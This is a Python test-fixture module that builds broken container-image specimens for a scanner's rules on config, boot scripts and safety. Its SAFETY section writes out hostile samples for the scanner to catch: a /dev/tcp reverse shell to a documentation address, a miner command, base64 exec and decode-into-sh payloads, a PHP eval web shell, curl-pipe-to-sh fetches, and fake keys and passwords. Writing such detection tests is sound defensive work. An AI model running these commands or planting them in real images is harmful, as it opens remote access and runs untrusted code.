"""Broken specimens that are not run: each is made from one good image by one change, and must fail one rule alone.

Everything hostile is put together when it is needed, so that the repository holds none of it.
"""

from __future__ import annotations

import base64
import datetime
import random
import shutil
import tempfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass, replace
from pathlib import Path

from tests.specimens.campaign import Result
from tests.specimens.changes import (
    BOOT,
    DEBIAN,
    LABELS,
    RUN,
    another_diff_id,
    api,
    config,
    cut,
    flipped,
    good,
    health,
    hiding,
    many_layers,
    mixed,
    on_top,
    starting,
    top,
)
from tests.specimens.images import SYSTEM, Content, File, Folder, Link, elf, layer, program
from tests.specimens.images import specimen as image_of
from tests.unit.checking.rules.boot_scripts import SPECIMENS as SCRIPTS
from tests.unit.checking.scanning import evil
from tests.unit.images.samples import file, item, layer_of

from hitless.checking.events import Stage
from hitless.checking.facts.looking import Wishes, look
from hitless.checking.facts.scanner import Scanner
from hitless.checking.judging import judge
from hitless.checking.record import Opened, Record
from hitless.checking.report import Judged, Report
from hitless.checking.rule import Purpose
from hitless.checking.rules.catalogue import RULES
from hitless.checking.scanning import scanners
from hitless.checking.scanning.clamav import ClamAV
from hitless.checking.verdict import Outcome
from hitless.images.image import Image
from hitless.spec.profiles import DEFAULT, PROFILES, Profile

REALTIME, HITLESS, BATCH = Purpose
MADE_UP_VIRUS = b"a specimen of nothing bad, " + b"known to these specimens only"


@dataclass(frozen=True)
class Broken:
    """`rule`: the one that it fails; empty for none. `clamav`: it is shown to ClamAV, with a signature of our own."""

    name: str
    rule: str
    image: Callable[[], Image]
    purpose: Purpose = HITLESS
    profile: Profile = DEFAULT
    clamav: bool = False


def judged(one: Broken) -> Result:
    with tempfile.TemporaryDirectory() as folder:
        report = reported(one, Path(folder))
    outcomes = {
        judged.rule.id: judged.verdict.outcome.value for judged in report.judged if not _is_unseen(judged, report)
    }
    told = {judged.rule.id: judged.verdict.message for judged in report.judged if not judged.verdict.outcome.conforms}
    return Result(one.name, one.rule, outcomes, told)


def reported(one: Broken, scratch: Path) -> Report:
    opened = Opened("specimen", "image", "0", "2026-01-01T00:00:00Z", one.profile.name, one.purpose.value, 0)
    facts = look(one.image(), Wishes(scanners=_scanners(one, scratch)))
    record = Record(opened, (opened, *facts))
    return judge(record, RULES.values(), one.profile, one.purpose, today=datetime.date(2026, 1, 1))


def _scanners(one: Broken, scratch: Path) -> Sequence[Scanner]:
    found = scanners(clamav=False)
    if not one.clamav:
        return found
    scratch.chmod(0o755)
    (scratch / "own.ndb").write_text(f"Own.Specimen:0:*:{MADE_UP_VIRUS.hex()}\n")
    return [*found, ClamAV(scratch)]


def _is_unseen(judged: Judged, report: Report) -> bool:
    """A rule of a stage that was not looked at, ClamAV among them."""
    is_open = judged.verdict.outcome is Outcome.UNPROVEN
    missing = any(report.record.missing(stage) for stage in judged.rule.needs)
    return is_open and (missing or judged.rule.id == "HL404")


def _bad(rule: str, _purpose: Purpose = HITLESS, /, **images: Callable[[], Image]) -> list[Broken]:
    return [Broken(f"{rule}-{name.replace('_', '-')}", rule, image, _purpose) for name, image in images.items()]


OTC, FREE, ENGINE = PROFILES["otc"], PROFILES["2025-08"], replace(PROFILES["custom-engine"], protocol="http")
IMAGE = [
    Broken("HL101-too-large", "HL101", good, profile=replace(DEFAULT, image_limit_bytes=2000)),
    *_bad("HL102", bit_flipped=lambda: top(flipped), cut=lambda: top(cut), diff_id=lambda: top(another_diff_id)),
    *_bad("HL103", path_twice=lambda: on_top(layer_of(file("opt/a", b"1"), file("opt/a", b"2")))),
    *_bad("HL104", many_layers=many_layers),
    *_bad("HL105", dockers_type=mixed),
    *_bad("HL106", history=lambda: on_top(layer({"/opt/x": b"1"}), history=2)),
    *_bad(
        "HL107",
        windows=lambda: good(platform="windows/amd64"),
        riscv=lambda: good(platform="linux/riscv64"),
    ),
    *_bad(
        "HL108",
        python_for_arm=lambda: good({"/usr/bin/python3": program("arm64")}),
        says_arm=lambda: good(platform="linux/arm64"),
        own_program=lambda: good({"/srv/server": program("riscv64")}, command=["/srv/server"]),
    ),
    *_bad(
        "HL109",
        no_command=lambda: good(command=None),
        no_program=lambda: good(command=["gunicorn-of-nobody", "app:app"]),
        not_executable=lambda: good({"/srv/server": elf()}, command=["/srv/server"]),
        no_script=lambda: good(command=["sh", "/home/boot.sh"]),
        a_folder=lambda: good({"/srv/server": Folder()}, command=["/srv/server"]),
    ),
    *_bad(
        "HL110",
        python_of_sh=lambda: good(entrypoint=["python3"], command=["sh", RUN]),
        text_ignores=lambda: good(entrypoint=["/bin/sh", "-c", "exec python3 -m server"]),
        text_and_words=lambda: good(entrypoint=["sh", "-c"], command=["exec python3", "app.py"]),
    ),
    *_bad("HL111", user=lambda: good(user="nobody"), group=lambda: good(user="1000:staff")),
    Broken("HL112-user", "HL112", lambda: good({"/etc/passwd": b"root:x:0:0::/:/bin/sh\n"}), profile=ENGINE),
    Broken("HL112-group", "HL112", lambda: good({"/etc/group": b"root:x:0:\n"}), profile=ENGINE),
    *_bad("HL113", quit=lambda: good(stop_signal="SIGQUIT"), number=lambda: good(stop_signal="2")),
    *_bad("HL114", other_port=lambda: good(ports=[5000]), udp=lambda: good(ports=["8080/udp", "80/tcp"])),
    *_bad(
        "HL115",
        package=lambda: good(working_dir="/srv/app", base={**DEBIAN, "/srv": Folder(0o700)}),
        script=lambda: good({RUN: File(BOOT, 0o700)}),
        program=lambda: good({"/srv/server": File(elf(), 0o700)}, command=["/srv/server"]),
    ),
    *_bad("HL116", base=lambda: good(labels=None)),
    *_bad("HL117", hidden=hiding),
    *_bad(
        "HL118",
        no_bash=lambda: starting("/start", b"#!/bin/bash\n"),
        env_bash=lambda: starting("/usr/bin/start", b"#!/usr/bin/env bash\n"),
        carriage_return=lambda: starting("/start", b"#!/bin/sh\r\n"),
    ),
]
CONFIGS = [
    *_bad(
        "HL201",
        no_json=lambda: good({"/app/config.json": b'{"apis": [}'}, config=None),
        model_type=lambda: good(config=config(model_type="image")),
        port=lambda: good(config=config(port=0)),
        no_model_algorithm=lambda: good(config=config(model_algorithm=None)),
        method=lambda: good(config=api(method="fetch")),
    ),
    *_bad(
        "HL202",
        empty_timeout=lambda: good(config=health(timeout_seconds="")),
        unknown_key=lambda: good(config=config(model_algoritm="x")),
    ),
    Broken("HL203-none", "HL203", lambda: good(config=None), REALTIME),
    *_bad("HL204", two=lambda: good({"/home/config.json": b'{"model_algorithm": "other"}'})),
    *_bad("HL205", port=lambda: good(config=config(port=9000), ports=[9000])),
    Broken("HL205-port-of-an-edition", "HL205", lambda: good(config=config(port=9000), ports=[]), profile=OTC),
    Broken("HL205-port-of-a-batch", "HL205", lambda: good(config=config(port=9000), ports=[]), BATCH, FREE),
    *_bad("HL206", https=lambda: good(config={**health(protocol="https"), "protocol": "https"})),
    *_bad("HL207", no_api=lambda: good(config=config(apis=[]))),
    *_bad("HL208", no_health=lambda: good(config=config(health=None))),
    Broken("HL208-no-health-of-an-edition", "HL208", lambda: good(config=config(health=None)), REALTIME, OTC),
    *_bad("HL209", threshold=lambda: good(config=health(failure_threshold="1"))),
    *_bad("HL210", delay=lambda: good(config=health(initial_delay_seconds="1500"))),
    *_bad("HL211", asks_the_model=lambda: good(config=config(apis=[{"url": "/health", "method": "get"}]))),
    *_bad(
        "HL212",
        dependencies=lambda: good(
            config=config(dependencies=[{"installer": "pip", "packages": [{"package_name": "numpy"}]}])
        ),
    ),
    *_bad("HL213", an_engine=lambda: good(config=config(model_type="PyTorch"))),
    *_bad("HL214", late=lambda: good(config=health(period_seconds="60"))),
]
BATCHES = [
    *_bad(
        "HL301",
        BATCH,
        missing=lambda: image_of({"/srv/x": b""}, base=DEBIAN, labels=LABELS),
        a_folder=lambda: good({RUN: Folder()}),
        empty=lambda: good({RUN: b""}),
        a_link_to_nothing=lambda: good({RUN: Link("../nothing")}),
    ),
    *_bad(
        "HL302",
        BATCH,
        carriage_returns=lambda: good({RUN: BOOT.replace(b"\n", b"\r\n")}),
        byte_order_mark=lambda: good({RUN: b"\xef\xbb\xbf" + BOOT}),
        a_binary=lambda: good({RUN: b"a\0b"}),
    ),
    *_bad(
        "HL303",
        BATCH,
        shell_form=lambda: good(command=["/bin/sh", "-c", "sh /home/run.sh"]),
        entrypoint=lambda: good(entrypoint=["/bin/sh"], command=[RUN]),
        another=lambda: good(command=["python3", "-m", "server"]),
    ),
    *_bad(
        "HL304",
        BATCH,
        no_java=lambda: good({"/usr/bin/java": elf()}),
        no_zip=lambda: good(base={**DEBIAN, "/usr/bin/zip": Link("nothing")}),
        no_python=lambda: good(base={path: content for path, content in DEBIAN.items() if "python" not in path}),
        not_on_the_path=lambda: good(env={"PATH": "/bin"}),
        no_tools=lambda: good(base=SYSTEM),
    ),
    *_bad("HL305", BATCH, its_owners=lambda: good({RUN: File(BOOT, 0o600)})),
]


def _scripted(text: str) -> Callable[[], Image]:
    return lambda: good({RUN: File(text.encode(), 0o755)})


BOOTS = [
    *(
        Broken(f"{one.fails[0]}-{one.name}", one.fails[0], _scripted(one.script))
        for one in SCRIPTS
        if len(one.fails) == 1
    ),
    *_bad(
        "HL319",
        shell_form=lambda: good(command=["/bin/sh", "-c", "python3 -m server"]),
        not_the_last=lambda: good(
            {"/bin/bash": program()}, command=["/bin/bash", "-c", "python3 -m server; echo over"]
        ),
    ),
]
ADDRESS = "198.51.100.7"
_B64 = base64.b64encode(b"print('hello, this is a long text that nobody can read')" * 3).decode()
_TEST_VIRUS = "X5O!P%@AP[4\\PZX54(P^)7CC)7}" + "$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
_LETTERS = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
_PICKLES = (
    "protocol-0", "protocol-4", "inst", "newobj", "memo-recalled", "unicode-with-escapes", "after-stop", "torch",
    "torch-deflated", "npz", "npy", "pickle-by-another-name", "joblib-zlib", "joblib-gzip", "tar-gz", "zip-in-a-zip",
    "subprocess.Popen", "builtins.eval", "behind-many-numbers", "bytes-in-a-pickle",
)  # fmt: skip


def _holding(path: str, content: Content) -> Callable[[], Image]:
    return lambda: good({path: content})


def _some(count: int, seed: int = 3) -> str:
    return "".join(random.Random(seed).choices(_LETTERS, k=count))


def _private_key(kind: str) -> str:
    lines = "\n".join(_some(64, number) for number in range(12))
    return f"-----BEGIN {kind}PRIVATE" + f" KEY-----\n{lines}\n-----END {kind}PRIVATE" + " KEY-----\n"


SAFETY = [
    *_bad(
        "HL401",
        test_virus=_holding("/app/a.com", _TEST_VIRUS),
        miner=_holding("/app/a.sh", "./x -o stratum" + "+tcp://pool.example.org:3333 -u wallet"),
        reverse_shell=_holding("/app/a.sh", "bash -i >& /dev" + f"/tcp/{ADDRESS}/4444 0>&1"),
        hidden_python=_holding("/app/a.py", "exec(" + f"base64.b64decode('{_B64}'))"),
        hidden_shell=_holding("/app/a.sh", f"echo {_B64} | base64 -d" + " | sh"),
        web_shell=_holding("/app/a.php", "<?php ev" + "al($_POST['c']); ?>"),
    ),
    *(
        Broken(f"HL402-{name}", "HL402", _holding(f"/app/{evil.SPECIMENS[name][0]}", evil.SPECIMENS[name][1]()))
        for name in _PICKLES
    ),
    *_bad("HL403", own_class=_holding("/app/a.pkl", evil.raw("__main__", "Model", 4))),
    Broken("HL404-virus", "HL404", _holding("/app/a.bin", MADE_UP_VIRUS), clamav=True),
    *_bad("HL405", lambda_layer=_holding("/app/model.keras", '{"class_name": "Lambda", "config": {}}')),
    *_bad(
        "HL406",
        fetches=_holding(
            RUN, File(b"#!/bin/sh\ncurl -fsSL https://example.org/x.sh | " + b"sh\nexec python3 -m server\n", 0o755)
        ),
        beside=_holding("/app/start.sh", 'bash -c "$(curl -fsSL https://example.org/x.sh)"\n'),
    ),
    *_bad(
        "HL410",
        user=_holding("/app/tool", File(b"x", 0o4755)),
        group=_holding("/app/tool", File(b"x", 0o2755, 0, 5)),
        called_su=_holding("/app/su", File(b"x", 0o4755)),
    ),
    *_bad(
        "HL411",
        program=_holding("/usr/local/bin/tool", File(b"x", 0o777)),
        library=_holding("/opt/x/lib/python3.11/site-packages/a.py", File(b"x", 0o666)),
    ),
    *_bad("HL412", disk=lambda: on_top(layer_of(item("opt/disk", kind=b"4", mode=0o600, devmajor=8)))),
    *_bad(
        "HL413",
        labels=_holding("/app/labels.txt", elf()),
        among_weights=_holding("/srv/weights/tool", elf()),
    ),
    *_bad(
        "HL421",
        key=_holding("/home/id_rsa", _private_key("RSA ")),
        key_in_code=_holding("/app/server.py", f'KEY = """{_private_key("EC ")}"""'),
        access_key=_holding("/app/settings.py", "AK" + "IA" + "Q7RZ2MXN4KWV6TYB"),
        login=_holding("/home/.netrc", "machine example.org login me password geheim1"),
        registry=_holding("/home/.docker/config.json", '{"auths": {"r.example.org": {"auth": "bWU6eA=="}}}'),
        variables=_holding("/app/.env", "DEBUG=1\nDB_PASSWORD=geheim123\n"),
    ),
    *_bad(
        "HL422",
        password=lambda: good(env={"DB_PASSWORD": "geheim123"}),
        token=lambda: good(env={"SETTINGS": "AK" + "IA" + "Q7RZ2MXN4KWV6TYB"}),
    ),
    *_bad("HL423", checkout=_holding("/app/.git/HEAD", "ref: refs/heads/main\n")),
]
BROKEN: tuple[Broken, ...] = (*IMAGE, *CONFIGS, *BATCHES, *BOOTS, *SAFETY)
_CONF = b'bind = "0.0.0.0:8080"\nworker_class = "gevent"\nkeepalive = 200\ngraceful_timeout = 20\n'
_CONFIGURED = b"""\
#!/bin/sh
cd /app || exit 1
trap 'sleep 60; kill -TERM "$pid"' TERM
gunicorn app:app &
pid=$!
wait "$pid"
wait "$pid"
"""
FINE: tuple[Broken, ...] = (
    *(Broken(f"good-not-run-for-{purpose.value}", "", good, purpose) for purpose in Purpose),
    *(Broken(f"good-{one.name}", "", _scripted(one.script)) for one in SCRIPTS if not one.fails),
    Broken(
        "good-settings-in-a-file", "", lambda: good({RUN: File(_CONFIGURED, 0o755), "/app/gunicorn.conf.py": _CONF})
    ),
)
STATIC_STAGES = frozenset({Stage.IMAGE, Stage.FILES, Stage.CONFIG, Stage.SAFETY})


# What cannot be decided although it was looked at: layers that cannot be read, commands that are put together at run
# time.
UNDECIDED = {
    **dict.fromkeys(
        ("HL102-bit-flipped", "HL102-cut", "HL102-diff-id"),
        {"HL101", "HL103", "HL109", "HL117", *(f"HL{number}" for number in (401, 402, 403, 405, 406, 410, 411, 412))}
        | {"HL413", "HL421", "HL423"},
    ),
    "good-options-in-variables": {"HL331"},
    "good-settings-in-a-file": {"HL322", "HL329", "HL330", "HL331"},
    "good-sourced": {"HL313"},
    "good-evaluated": {"HL313"},
}


def all_of_them() -> list[Broken]:
    """Those that can be judged on this machine."""
    return [one for one in (*BROKEN, *FINE) if not one.clamav or shutil.which("clamscan")]
